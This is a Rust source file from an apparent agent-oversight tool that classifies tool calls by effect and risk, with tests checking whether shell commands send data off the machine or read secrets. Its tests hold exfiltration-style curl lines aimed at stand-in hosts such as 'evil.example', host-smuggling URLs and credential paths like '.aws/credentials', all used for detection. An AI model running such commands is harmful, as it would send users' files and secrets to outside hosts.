//! The result of analysis: one structure used by judging, previews, summaries, grants and explanations.

use std::{ops::Range, path::Path};

use countersign_words::Message;
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

/// How the ids of reasons begin that protect something from being changed, and not from being read.
const CHANGING: &[&str] = &[
    "analysis-changes-",
    "analysis-is-countersign-own-setting",
    "analysis-settings-of-",
    "effect-deleting-",
    "effect-protected-",
    "effect-wants-call",
    "effect-wants-change",
    "effect-wants-socket",
    "table-changes-",
    "table-hooks-",
    "table-installs-",
    "table-lets-",
    "table-opens-",
    "table-settings-of-",
    "table-weakens-",
];

/// What a call is: computed, never taken from the agent.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum Class {
    /// It changes nothing.
    Read,
    /// It changes something.
    Mutable,
    /// It destroys something.
    Destructive,
}

impl Class {
    /// Every class.
    pub const ALL: [Self; 3] = [Self::Read, Self::Mutable, Self::Destructive];

    /// The word for it.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Read => "read",
            Self::Mutable => "mutable",
            Self::Destructive => "destructive",
        }
    }

    /// The same in the words of approval requests.
    pub fn risk_level(self) -> RiskLevel {
        match self {
            Self::Read => RiskLevel::Low,
            Self::Mutable => RiskLevel::Medium,
            Self::Destructive => RiskLevel::High,
        }
    }
}

/// How dangerous something is, in the words of approval requests.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum RiskLevel {
    /// It changes nothing.
    Low,
    /// It changes something.
    Medium,
    /// It destroys something.
    High,
}

/// One kind of thing that a call does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum Effect {
    /// Reads a path.
    Read,
    /// Creates or writes a path.
    Write,
    /// Changes something that is not a path.
    Change,
    /// Runs something whose text is not in the call.
    Execute,
    /// Contacts a host.
    Send,
    /// Runs with more rights.
    Privilege,
    /// Could not be understood.
    Opaque,
    /// Deletes a path, or empties it.
    Delete,
    /// Destroys something that is not a path.
    Destroy,
    /// Touches something protected.
    Protected,
}

impl Effect {
    /// The least class of a call that does this.
    pub fn class(self) -> Class {
        match self {
            Self::Read | Self::Send | Self::Protected => Class::Read,
            Self::Write | Self::Change | Self::Execute | Self::Privilege | Self::Opaque => Class::Mutable,
            Self::Delete | Self::Destroy => Class::Destructive,
        }
    }
}

/// A range of the text, in bytes.
#[derive(
    Debug, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, JsonSchema,
)]
pub struct Span {
    /// The first byte.
    pub start: usize,
    /// The byte after the last.
    pub end: usize,
}

impl Span {
    /// As a range.
    pub fn range(self) -> Range<usize> {
        self.start..self.end
    }

    /// From the start of the one to the end of the other.
    pub fn to(self, end: Self) -> Self {
        Self { start: self.start.min(end.start), end: self.end.max(end.end) }
    }
}

/// One thing that a call does.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct Finding {
    /// What.
    pub effect: Effect,
    /// To what: a path, a host, a program.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub target: Option<String>,
    /// In words, third person: `deletes a file`, `runs the project's tests`.
    pub reason: Message,
    /// The piece of the text that says so.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub span: Option<Span>,
    /// Whether that is certain; otherwise it is what the text may do.
    #[serde(default = "yes", skip_serializing_if = "Clone::clone")]
    pub certain: bool,
}

fn yes() -> bool {
    true
}

/// What a call reads, writes, deletes, executes and sends, with resolved targets.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(default, deny_unknown_fields)]
pub struct Facts {
    /// What it reads.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub reads: Vec<String>,
    /// What it writes.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub writes: Vec<String>,
    /// What it deletes.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub deletes: Vec<String>,
    /// How many files and folders that hits, where it is more than are named: what is in a folder goes with it.
    #[serde(skip_serializing_if = "is_zero")]
    pub hits: usize,
    /// What else it changes, in words.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub changes: Vec<Message>,
    /// What else it destroys, in words.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub destroys: Vec<Message>,
    /// What it executes.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub executes: Vec<Message>,
    /// The hosts it contacts.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub hosts: Vec<String>,
    /// Whether it sends data out.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub sends: bool,
    /// Why it is always asked about (secrets, startup files, Countersign's own data…).
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub protected: Vec<Message>,
    /// The servers whose text it brings, where nobody marked them as trusted.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub foreign: Vec<String>,
    /// Whether part of it could not be understood.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub opaque: bool,
    /// Whether it reaches outside the workspace.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub outside: bool,
    /// Whether it asks for privilege.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub privileged: bool,
    /// The folder it runs in, where it runs commands.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub folder: Option<String>,
    /// The hash of its whole text, where part of that is opaque: a grant can cover exactly this text.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub script: Option<String>,
    /// The simple commands of a shell call, each as its words, as far as they are known.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub commands: Vec<Command>,
    /// Each thing found, with the piece of the text that gave it.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub findings: Vec<Finding>,
}

/// A simple command, as far as it is known.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct Command {
    /// Its words; None for one that only running tells.
    pub words: Vec<Option<String>>,
    /// What it is by itself.
    pub class: Class,
}

/// What the tables say of commands that ask a package registry.
const REGISTRY: &str = "sends a request to the package registry";

fn is_zero(n: &usize) -> bool {
    *n == 0
}

impl Facts {
    /// Maximum number of entries per list.
    pub const KEPT: usize = 1000;

    /// Returns the class that these facts alone give: they can raise a tool's class, never lower it.
    pub fn class(&self) -> Class {
        let changes = !self.writes.is_empty()
            || !self.changes.is_empty()
            || !self.executes.is_empty()
            || self.opaque
            || self.privileged;
        if !self.deletes.is_empty() || !self.destroys.is_empty() {
            Class::Destructive
        } else if changes {
            Class::Mutable
        } else {
            Class::Read
        }
    }

    /// Whether anything leaves the machine. Contacting a host counts as sending, since an address can carry
    /// secrets out.
    pub fn sends_out(&self) -> bool {
        self.sends || !self.hosts.is_empty()
    }

    /// Whether anything may leave the machine: what is sent to it alone, by its loopback address, does not.
    pub fn sends_beyond(&self) -> bool {
        // What an option gives to be sent goes where its command sends.
        let is_own = |finding: &&Finding| finding.reason.id() != Some("analysis-sends");
        let sent = self.findings.iter().filter(|finding| finding.effect == Effect::Send).filter(is_own);
        let all_here = self.hosts.iter().all(|host| is_loopback(host))
            && sent.map(|finding| finding.target.as_deref()).all(|to| to.is_some_and(is_loopback));
        self.sends_out() && (self.hosts.is_empty() || !all_here)
    }

    /// Whether whatever leaves the machine asks a package registry for something.
    pub fn asks_registry(&self) -> bool {
        let mut sent = self.findings.iter().filter(|finding| finding.effect == Effect::Send).peekable();
        self.sends_beyond() && sent.peek().is_some() && sent.all(|finding| *finding.reason == *REGISTRY)
    }

    /// Returns the hosts it contacts without this machine.
    pub fn hosts_beyond(&self) -> impl Iterator<Item = &String> {
        self.hosts.iter().filter(|host| !is_loopback(host))
    }

    /// Removes what it sends: where that stays.
    pub fn keep_here(&mut self) {
        (self.sends, self.hosts) = (false, Vec::new());
        self.findings.retain(|finding| finding.effect != Effect::Send);
    }

    /// Returns the secrets that it reads: paths, variables, or what shows them, in words. What is protected only from
    /// being changed is none.
    pub fn secrets(&self) -> Vec<String> {
        let mut found = Vec::new();
        if self.protected.is_empty() {
            return found;
        }
        for path in self.reads.iter().filter(|path| crate::path::reading(Path::new(path), &[]).is_some()) {
            note(&mut found, path.as_str());
        }
        let shows =
            |reason: &Message| !reason.id().is_some_and(|id| CHANGING.iter().any(|c| id.starts_with(c)));
        let protects = |f: &&Finding| f.effect == Effect::Protected && shows(&f.reason);
        for finding in self.findings.iter().filter(protects) {
            note(&mut found, finding.target.as_deref().unwrap_or(finding.reason.as_str()));
        }
        let changes = !self.writes.is_empty() || !self.deletes.is_empty();
        if found.is_empty() && self.findings.is_empty() && !changes {
            self.protected.iter().for_each(|why| note(&mut found, why.as_str()));
        }
        found
    }

    /// Returns the facts of a call that only reads `target`.
    pub fn read(target: impl Into<String>) -> Self {
        Self { reads: vec![target.into()], ..Self::default() }
    }

    /// Returns the facts of a call that writes `target`.
    pub fn write(target: impl Into<String>) -> Self {
        Self { writes: vec![target.into()], ..Self::default() }
    }

    /// Returns the findings for people: without duplicates, preferring those with a position in the text.
    pub fn told(&self) -> Vec<&Finding> {
        let placed = |f: &Finding| f.span.is_some_and(|s| s.end > s.start);
        let better = |f: &Finding, other: &Finding| {
            let same = f.reason == other.reason && (f.target == other.target || f.target.is_none());
            let place = f.span == other.span || (!placed(f) && placed(other));
            let more = other.effect.class() > f.effect.class() || (!placed(f) && placed(other));
            same && place && more
        };
        let all = &self.findings;
        all.iter().filter(|f| !all.iter().any(|other| better(f, other))).collect()
    }

    /// Adds a finding. Lists end at [`Facts::KEPT`] entries: the class of a call does not depend on more.
    pub fn add(&mut self, finding: Finding) {
        let Finding { target, reason, .. } = &finding;
        match (finding.effect, target) {
            (Effect::Read, Some(target)) => note(&mut self.reads, target),
            (Effect::Read, None) => {}
            (Effect::Write, target) => note(&mut self.writes, target.as_deref().unwrap_or(reason)),
            (Effect::Delete, target) => note(&mut self.deletes, target.as_deref().unwrap_or(reason)),
            (Effect::Execute, Some(target)) => note(&mut self.executes, target),
            (Effect::Execute, None) => note(&mut self.executes, reason),
            (Effect::Send, target) => {
                self.sends = true;
                if let Some(target) = target {
                    note(&mut self.hosts, target);
                }
            }
            (Effect::Privilege, _) => self.privileged = true,
            (Effect::Opaque, _) => self.opaque = true,
            (Effect::Change, _) => note(&mut self.changes, reason),
            (Effect::Destroy, _) => note(&mut self.destroys, reason),
            (Effect::Protected, Some(target)) => {
                let why = Message::joined(": ", [Message::from(reason), target.into()]);
                note(&mut self.protected, &why);
            }
            (Effect::Protected, None) => note(&mut self.protected, reason),
        }
        if self.findings.len() < Self::KEPT && !self.findings.contains(&finding) {
            self.findings.push(finding);
        }
    }
}

/// Adds an entry to a list unless it is in it, up to [`Facts::KEPT`] entries.
fn note<T, W>(list: &mut Vec<T>, what: &W)
where
    T: PartialEq<str> + for<'w> From<&'w W>,
    W: AsRef<str> + ?Sized,
{
    if list.len() < Facts::KEPT && !list.iter().any(|known| known == what.as_ref()) {
        list.push(T::from(what));
    }
}

/// Whether a host, with or without a port, is this machine.
fn is_loopback(host: &str) -> bool {
    let is_here = |host: &str| {
        let parts: Vec<Option<u8>> = host.split('.').map(|part| part.parse().ok()).collect();
        matches!(
            parts.as_slice(),
            [Some(127), Some(_), Some(_), Some(_)] | [Some(0), Some(0), Some(0), Some(0)]
        ) || ["::1", "[::1]", "[::]"].contains(&host)
            || host.eq_ignore_ascii_case("localhost")
    };
    let name = host.rsplit_once(':').filter(|(_, port)| port.bytes().all(|b| b.is_ascii_digit()));
    is_here(host) || name.is_some_and(|(name, _)| is_here(name))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn finding(effect: Effect, reason: &str, span: (usize, usize)) -> Finding {
        let span = Some(Span { start: span.0, end: span.1 });
        Finding { effect, target: None, reason: reason.into(), span, certain: true }
    }

    #[test]
    fn what_says_the_same_twice_is_told_once() {
        let mut facts = Facts::default();
        facts.add(finding(Effect::Opaque, "runs text", (4, 6)));
        facts.add(finding(Effect::Destroy, "runs text", (4, 6)));
        facts.add(finding(Effect::Destroy, "runs text", (0, 0)));
        facts.add(finding(Effect::Change, "makes a folder", (8, 9)));
        let told: Vec<_> = facts.told().iter().map(|f| (f.effect, f.span)).collect();
        let at = |start, end| Some(Span { start, end });
        assert_eq!(told, [(Effect::Destroy, at(4, 6)), (Effect::Change, at(8, 9))]);
        assert_eq!(facts.findings.len(), 4, "all of it is kept");
    }

    #[test]
    fn a15_secrets_are_what_is_read_and_not_what_is_only_protected_from_changes() {
        let mut facts = Facts::default();
        let mut protect = |reason: Message, target: Option<&str>| {
            let target = target.map(str::to_owned);
            facts.add(Finding { effect: Effect::Protected, target, reason, span: None, certain: true });
        };
        protect(countersign_words::say!("analysis-settings-of-git-can-name-programs-to-run"), None);
        protect(Message::known("changes secrets"), None);
        protect(countersign_words::say!("effect-wants-socket"), Some("/run/x"));
        protect(countersign_words::say!("effect-wants-hidden"), Some("/w/.env"));
        protect(Message::known("shows secrets"), None);
        protect("a reason that nobody has listed".into(), None);
        facts.reads = vec!["/home/ana/.aws/credentials".to_owned(), "/w/a.txt".to_owned()];
        let found =
            ["/home/ana/.aws/credentials", "/w/.env", "shows secrets", "a reason that nobody has listed"];
        assert_eq!(facts.secrets(), found);
        let told = |reads: &str| Facts { protected: vec!["x".into()], ..Facts::read(reads) }.secrets();
        assert_eq!(
            (told("/w/.env"), Facts::read("/w/.env").secrets()),
            (vec!["/w/.env".to_owned()], Vec::new())
        );
    }

    #[test]
    fn lists_end_somewhere_and_the_class_does_not_depend_on_that() {
        let mut facts = Facts::default();
        for n in 0..Facts::KEPT + 5 {
            facts.add(finding(Effect::Change, &format!("does {n}"), (n, n + 1)));
        }
        facts.add(finding(Effect::Destroy, "destroys", (0, 1)));
        assert_eq!((facts.changes.len(), facts.findings.len()), (Facts::KEPT, Facts::KEPT));
        assert_eq!(facts.class(), Class::Destructive);
    }

    #[test]
    fn only_this_machine_is_not_beyond_it() {
        let here =
            ["localhost", "LOCALHOST:80", "127.0.0.1", "127.9.9.9:80", "[::1]:80", "::1", "0.0.0.0:80"];
        assert!(here.iter().all(|host| is_loopback(host)));
        let others = ["localhost.example", "1.2.3.4", "127.0.0.1.example:80", "[::2]:80", "", "127.0.0.1:x"];
        assert!(!others.iter().any(|host| is_loopback(host)));
        let to = |hosts: &[&str]| {
            let hosts = hosts.iter().map(|host| (*host).to_owned()).collect();
            Facts { sends: true, hosts, ..Facts::default() }
        };
        assert!(!to(&["localhost:80"]).sends_beyond() && !Facts::default().sends_beyond());
        assert!(to(&[]).sends_beyond() && to(&["localhost", "a.example"]).sends_beyond());
        let beyond = |line: &str| crate::shell(line, &crate::Setting::default()).sends_beyond();
        for line in [
            "curl -H 'Accept: text/html' http://127.0.0.1:80/a",
            "curl http://localhost/two?x=1",
            "curl -d a=b http://127.0.0.1/",
        ] {
            assert!(!beyond(line), "{line}");
        }
        let others = [
            "curl -d a=b https://a.example",
            "curl -d a=b $URL http://localhost",
            "curl http://localhost?.evil.example/",
            "curl http://localhost@(.evil.example)/",
            "curl -H 'a: b' http://localhost; pip install x",
            "curl -x evil.example http://localhost",
        ];
        for line in others {
            assert!(beyond(line), "{line}");
        }
    }

    #[test]
    fn what_asks_a_package_registry_is_told_from_other_sending() {
        let asks = |line: &str| crate::shell(line, &crate::Setting::default()).asks_registry();
        for line in [
            "pip install x",
            ".venv/bin/pip install -e .",
            ". a; pip install x && npm ci",
            "npm view x",
            "yarn add x",
        ] {
            assert!(asks(line), "{line}");
        }
        for line in ["ls", "curl https://pypi.org", "pip install x; curl -d @a https://a.example", "git push"]
        {
            assert!(!asks(line), "{line}");
        }
    }
}
